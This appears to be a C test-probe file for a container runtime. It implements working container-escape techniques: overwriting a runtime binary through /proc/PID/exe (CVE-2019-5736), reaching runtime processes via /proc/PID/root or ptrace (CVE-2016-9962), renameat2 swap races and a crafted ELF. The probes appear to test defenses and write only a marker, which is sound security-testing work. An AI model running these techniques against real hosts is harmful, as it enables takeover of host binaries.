/* SPDX-License-Identifier: Apache-2.0 */
#include "probe.h"

#include <dirent.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "base/num.h"

/*
 * The attack on a runtime that runs its own binary inside a container (CVE-2019-5736 and its relatives): a process
 * inside keeps an O_PATH descriptor of /proc/PID/exe of whatever shows up beside it, waits until that process has ended
 * ("text file busy" is over then) and writes through the descriptor.
 */

#define CATCHES_MAX 16

struct catch {
	int fd; /* O_PATH */
	pid_t pid;
	dev_t device;
	ino_t inode;
};

static bool is_known(const struct catch *catches, unsigned n, const struct stat *st)
{
	unsigned i;

	for (i = 0; i < n; i++)
		if (catches[i].device == st->st_dev && catches[i].inode == st->st_ino)
			return true;
	return false;
}

/* One look at every process: keeps each executable that is not this program's own. */
static void look_around(int proc, const struct stat *own, struct catch *catches, unsigned *n)
{
	DIR *dir = fdopendir(openat(proc, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
	struct dirent *entry;

	if (dir == NULL)
		return;
	while (*n < CATCHES_MAX && (entry = readdir(dir)) != NULL) {
		char path[64];
		struct stat st;
		int pid, fd;

		if (num_parse_int(entry->d_name, &pid) < 0)
			continue;
		(void)snprintf(path, sizeof(path), "%d/exe", pid); /* fits any int */
		fd = openat(proc, path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (fstat(fd, &st) < 0 || (st.st_dev == own->st_dev && st.st_ino == own->st_ino) ||
		    is_known(catches, *n, &st)) {
			close(fd);
			continue;
		}
		catches[(*n)++] = (struct catch){ .fd = fd, .pid = pid, .device = st.st_dev, .inode = st.st_ino };
	}
	closedir(dir);
}

/* Opens what was kept, by each way there is, and writes.  True if a byte arrived. */
static bool write_through(const struct catch *catch)
{
	static const int modes[] = { O_WRONLY, O_RDWR, O_WRONLY | O_APPEND, O_WRONLY | O_TRUNC };
	char path[64];
	unsigned i;

	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", catch->fd); /* fits any int */
	for (i = 0; i < sizeof(modes) / sizeof(modes[0]); i++) {
		int fd = open(path, modes[i] | O_CLOEXEC);

		if (fd < 0) {
			printf("open=%s\n", probe_errno_name(errno));
			continue;
		}
		if (write(fd, "#!owned\n", 8) == 8) {
			close(fd);
			return true;
		}
		printf("write=%s\n", probe_errno_name(errno));
		close(fd);
	}
	return false;
}

int probe_attack(int argc, char **argv)
{
	struct catch catches[CATCHES_MAX];
	struct timespec now, pause = { .tv_nsec = 20 * 1000 * 1000 };
	struct stat own;
	unsigned n = 0, i, written = 0;
	uint32_t seconds;
	time_t until;
	int proc = open("/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	(void)argc; /* main checked that there is one */
	if (proc < 0 || fstatat(proc, "self/exe", &own, 0) < 0 || num_parse_u32(argv[1], &seconds) < 0)
		return probe_fail("attack");
	clock_gettime(CLOCK_MONOTONIC, &now);
	until = now.tv_sec + (time_t)seconds;
	puts("ready");
	while (now.tv_sec < until) {
		look_around(proc, &own, catches, &n);
		clock_gettime(CLOCK_MONOTONIC, &now);
	}
	for (i = 0; i < n; i++) {
		char path[32];
		unsigned tries;

		(void)snprintf(path, sizeof(path), "%d", catches[i].pid); /* fits any int */
		for (tries = 0; tries < 100 && faccessat(proc, path, F_OK, 0) == 0; tries++)
			nanosleep(&pause, NULL);
		if (write_through(&catches[i]))
			written++;
	}
	printf("caught=%u\nwritten=%u\n", n, written);
	return 0;
}

int probe_swap(int argc, char **argv)
{
	const unsigned exchange = 1U << 1; /* RENAME_EXCHANGE */
	struct timespec now;
	uint32_t seconds;
	time_t until;
	unsigned i;

	(void)argc; /* main checked that there are three */
	if (num_parse_u32(argv[3], &seconds) < 0)
		return probe_fail(argv[3]);
	clock_gettime(CLOCK_MONOTONIC, &now);
	until = now.tv_sec + (time_t)seconds;
	while (now.tv_sec < until) {
		for (i = 0; i < 1000; i++)
			if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], exchange) < 0)
				return probe_fail("renameat2");
		clock_gettime(CLOCK_MONOTONIC, &now);
	}
	return 0;
}

/* The name of process PID as the kernel has it; "" if it is gone. */
static void get_name(int pid, char name[static 32])
{
	char path[32];
	ssize_t n;
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%d/comm", pid); /* fits any int */
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : read(fd, name, 31);
	name[n > 0 ? n : 0] = '\0';
	if (fd >= 0)
		(void)close(fd);
}

/* A runtime's process on its way into the container, before it is the program (CVE-2016-9962): can it be reached?
 * The programs have this one's name. */
static bool can_reach(int pid, const char *own_name)
{
	char name[32], path[32];
	bool reached;
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%d/root/", pid); /* fits any int */
	fd = open(path, O_PATH | O_CLOEXEC);
	reached = fd >= 0 || syscall(SYS_ptrace, 0x4206 /* PTRACE_SEIZE */, pid, 0, 0) == 0;
	if (fd >= 0)
		(void)close(fd);
	/* It may have become the program in between. */
	get_name(pid, name);
	return reached && name[0] != '\0' && strcmp(name, own_name) != 0;
}

int probe_trace(int argc, char **argv)
{
	unsigned seen = 0, reached = 0;
	char own_name[32], name[32];
	struct timespec now;
	uint32_t seconds;
	time_t until;
	int pid;

	(void)argc; /* main checked that there is one */
	if (num_parse_u32(argv[1], &seconds) < 0)
		return probe_fail(argv[1]);
	get_name((int)getpid(), own_name);
	clock_gettime(CLOCK_MONOTONIC, &now);
	until = now.tv_sec + (time_t)seconds;
	puts("ready");
	while (now.tv_sec < until) {
		for (pid = 2; pid < 400; pid++) {
			get_name(pid, name);
			if (name[0] == '\0' || strcmp(name, own_name) == 0)
				continue;
			seen++;
			if (can_reach(pid, own_name))
				reached++;
		}
		clock_gettime(CLOCK_MONOTONIC, &now);
	}
	printf("seen=%u\nreached=%u\n", seen, reached);
	return 0;
}

/* The victim that shows that the attack works: a plain file, executed inside. */
int probe_visit(int argc, char **argv)
{
	struct timespec stay = { .tv_nsec = 500 * 1000 * 1000 };
	int pid, pidfd, status;
	pid_t child;

	(void)argc; /* main checked that there is one */
	if (num_parse_int(argv[1], &pid) < 0)
		return probe_fail(argv[1]);
	pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	if (pidfd < 0 || setns(pidfd, CLONE_NEWPID | CLONE_NEWNS) < 0)
		return probe_fail("setns");
	child = fork();
	if (child == 0) {
		nanosleep(&stay, NULL);
		_exit(0);
	}
	if (child < 0 || waitpid(child, &status, 0) < 0)
		return probe_fail("fork");
	return 0;
}

int probe_make_elf(int argc, char **argv)
{
	struct {
		Elf64_Ehdr header;
		Elf64_Phdr segments[2];
		char interpreter[64];
	} image = { 0 };
	int fd;

	(void)argc; /* main checked that there are two */
	if (strlen(argv[1]) >= sizeof(image.interpreter))
		return probe_fail("interpreter");
	memcpy(image.header.e_ident, ELFMAG, SELFMAG);
	image.header.e_ident[EI_CLASS] = ELFCLASS64;
	image.header.e_ident[EI_DATA] = ELFDATA2LSB;
	image.header.e_ident[EI_VERSION] = EV_CURRENT;
	image.header.e_type = ET_DYN;
#if defined(__x86_64__)
	image.header.e_machine = EM_X86_64;
#elif defined(__aarch64__)
	image.header.e_machine = EM_AARCH64;
#else
	image.header.e_machine = EM_NONE; /* the test asks uname -m first */
#endif
	image.header.e_version = EV_CURRENT;
	image.header.e_phoff = offsetof(__typeof__(image), segments);
	image.header.e_ehsize = sizeof(image.header);
	image.header.e_phentsize = sizeof(image.segments[0]);
	image.header.e_phnum = 2;
	memcpy(image.interpreter, argv[1], strlen(argv[1]));
	image.segments[0] = (Elf64_Phdr){ .p_type = PT_INTERP, .p_flags = PF_R,
		.p_offset = offsetof(__typeof__(image), interpreter),
		.p_filesz = strlen(argv[1]) + 1, .p_memsz = strlen(argv[1]) + 1, .p_align = 1 };
	image.segments[1] = (Elf64_Phdr){ .p_type = PT_LOAD, .p_flags = PF_R | PF_X,
		.p_filesz = sizeof(image), .p_memsz = sizeof(image), .p_align = 0x1000 };
	fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	if (fd < 0 || write(fd, &image, sizeof(image)) != (ssize_t)sizeof(image))
		return probe_fail(argv[2]);
	return 0;
}
